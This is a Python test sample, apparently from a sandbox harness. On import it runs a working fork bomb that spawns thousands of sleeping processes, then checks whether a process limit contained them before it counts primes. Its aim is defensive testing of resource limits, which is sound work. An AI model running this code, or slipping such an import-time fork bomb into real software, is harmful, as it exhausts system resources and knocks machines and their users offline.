# Resource: a fork bomb at import time (once per process). Every child forks again and then sleeps. The parent
# counts the forks it managed; more than the process limit means the limit did not hold, and the sample fails.
import os
import sys
import time

LIMIT = 64


def _bomb():
    made = 0
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            for _ in range(100):
                try:
                    os.fork()
                except OSError:
                    break
            time.sleep(600)
            os._exit(0)
        made += 1
    return made


if not getattr(sys, "_pace_hostile_bombed", False):
    sys._pace_hostile_bombed = True
    SPAWNED = _bomb()
else:
    SPAWNED = 0


def count_primes(n: int) -> int:
    if SPAWNED > LIMIT:
        raise RuntimeError(f"pace-hostile LEAK: {SPAWNED} processes at once, above the limit")
    if n < 2:
        return 0
    sieve = bytearray([1]) * (n + 1)
    sieve[0] = sieve[1] = 0
    p = 2
    while p * p <= n:
        if sieve[p]:
            sieve[p * p::p] = bytes(len(range(p * p, n + 1, p)))
        p += 1
    return sum(sieve)
